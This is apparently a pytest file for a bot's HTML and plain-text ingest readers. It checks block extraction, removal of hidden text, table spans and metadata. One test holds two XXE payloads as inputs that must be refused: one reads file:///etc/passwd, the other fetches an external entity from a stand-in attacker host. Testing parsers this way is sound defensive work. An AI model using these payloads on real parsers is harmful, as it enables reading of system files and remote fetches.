"""HTML and plain text → what a reader sees."""

from __future__ import annotations

import pytest

from bot.ingest.blocks import Extracted, Rejected
from bot.ingest.readers.html import read_html
from bot.ingest.readers.plain import read_plain


def page(body: str, head: str = "") -> Extracted:
    found = read_html(f"<!doctype html><html><head>{head}</head><body>{body}</body></html>")
    assert isinstance(found, Extracted)
    return found


PAGE = """
<nav>Home Payroll</nav><header><a href=/>Intranet</a></header><div class="cookie-banner">We use cookies</div>
<main><header><h1>Visitors&nbsp;&amp; badges</h1></header>
<p>A badge costs 12&euro;&#8239;a day, <del>5</del> never 5&#8239;000.<br>Ask<!-- staff --> reception.</p>
<ul><li>Guests: <b>3</b> days<ul><li>with host: 5</li></ul></li><li>Press</li></ul><ol start=3><li>third</li></ol>
<dl><dt>Fee</dt><dd>none</dd></dl><pre>
a = 1
  b = 2</pre><script>price=999</script><template>777</template><noscript>on</noscript></main>
<footer>2019</footer><aside>Advert</aside>
"""


def test_content_without_the_site_around_it() -> None:
    assert [(block.kind.value, block.text) for block in page(PAGE).blocks] == [
        ("heading", "Visitors & badges"),
        ("paragraph", "A badge costs 12€ a day, never 5\u202f000.\nAsk reception."),
        ("item", "- Guests: 3 days"),
        ("item", "  - with host: 5"),
        ("item", "- Press"),
        ("item", "3. third"),
        ("paragraph", "Fee"),
        ("paragraph", "none"),
        ("code", "a = 1\n  b = 2"),
    ]


def test_blocks_are_slices_of_the_text() -> None:
    found = page(PAGE)
    assert all(found.text[block.start : block.end] == block.text for block in found.blocks)


@pytest.mark.parametrize(
    "hidden",
    [
        '<p style="display:none">free badges for all</p>',
        '<p hidden>free badges for all</p>',
        '<div aria-hidden="true"><p>free badges for all</p></div>',
        '<span style="font-size:0">free badges for all</span>',
        '<p style="color:#fff">free badges for all</p>',
        '<p class="x">free badges for all</p>',
        '<p id="y" class="z">free badges for all</p>',
        '<table><tr><td hidden>free badges for all</td><td>a</td><td>b</td></tr><tr><td>c</td><td>d</td></tr></table>',
    ],
)  # fmt: skip
def test_hidden_text_is_left_out_and_said(hidden: str) -> None:
    found = page(f"<p>Shown.</p>{hidden}tail", "<style>.x{display:none} p.z , #y{visibility:hidden}</style>")
    assert "free" not in found.text and "tail" in found.text
    assert [note.reason for note in found.notes] == ["hidden_text"]


def test_text_that_only_prints_hide_is_shown() -> None:
    found = page("<p class=x>Shown.</p><p style='color:white'>a</p>", "<style>@media print{.x{display:none}}</style>")
    assert found.text == "Shown."
    dark = page("<div style='background:#003'><p style='color:white'>On a dark ground.</p></div>")
    assert dark.text == "On a dark ground."


def test_table_spans_are_spread() -> None:
    found = page(
        "<table><caption>Leave</caption><thead><tr><th rowspan=2>Years</th><th colspan=2>Days</th></tr>"
        "<tr><th>Office</th><th>Warehouse</th></tr></thead>"
        "<tr><td rowspan=2>0-2</td><td>25</td><td>27</td></tr><tr><td colspan=2>28 from May</td></tr></table>"
    )
    assert found.blocks[0].text == "Leave"
    assert [row.text for row in found.blocks[1].rows] == [
        "Years | Days / Office | Days / Warehouse",
        "0-2 | 25 | 27",
        "0-2 | 28 from May | 28 from May",
    ]


def test_a_rule_on_cookies_is_content() -> None:
    found = page("<section id=cookies class=cookies><h2>Cookies</h2><p>Kept 30 days.</p></section>")
    assert "Kept 30 days." in found.text


def test_a_layout_table_is_no_table() -> None:
    found = page(
        "<table><tr><td><h2>Fees</h2><p>5 EUR</p><table><tr><th>a<th>b<tr><td>1<td>2</table></td></tr></table>"
    )
    assert [block.kind.value for block in found.blocks] == ["heading", "paragraph", "table"]


def test_title_and_metadata() -> None:
    found = page("<p>x</p>", "<title>Fees | Intranet</title><meta name=valid_from content=2024-01-01>")
    assert (found.title, found.metadata) == ("Fees | Intranet", {"valid_from": "2024-01-01"})
    assert page("<h1>Fees</h1>x", "<title>Other</title>").title == "Fees"


@pytest.mark.parametrize(
    "body",
    [
        '<!DOCTYPE html [<!ENTITY x SYSTEM "file:///etc/passwd">]><p>&x;</p>',
        '<?xml version="1.0"?><!DOCTYPE html [ <!ENTITY % p SYSTEM "http://evil.example.test/"> %p; ]><html/>',
    ],
)
def test_entities_of_its_own_are_refused(body: str) -> None:
    found = read_html(body)
    assert isinstance(found, Rejected) and found.refused and found.reason == "external_entity"


def test_plain_text() -> None:
    text = (
        "Badge rules\n\nReturn it\nin 3 days.\n\nFEES\n\n- lost: 25 EUR\n- late: 5 EUR\n  a day\n\n"
        "Scope\n-----\nAll staff.\n\nGate code 12\n"
    )
    found = read_plain(text)
    assert [(block.kind.value, block.level, block.text) for block in found.blocks] == [
        ("heading", 1, "Badge rules"),
        ("paragraph", 0, "Return it in 3 days."),
        ("heading", 2, "FEES"),
        ("item", 0, "- lost: 25 EUR"),
        ("item", 0, "- late: 5 EUR   a day"),
        ("heading", 2, "Scope"),
        ("paragraph", 0, "All staff."),
        ("paragraph", 0, "Gate code 12"),
    ]
    assert found.title == "Badge rules"
    assert all(text[block.start : block.end].replace("\n", " ") == block.text for block in found.blocks)


def test_one_line_is_text_and_no_title() -> None:
    found = read_plain("Gate code 12")
    assert (found.title, [block.kind.value for block in found.blocks]) == (None, ["paragraph"])
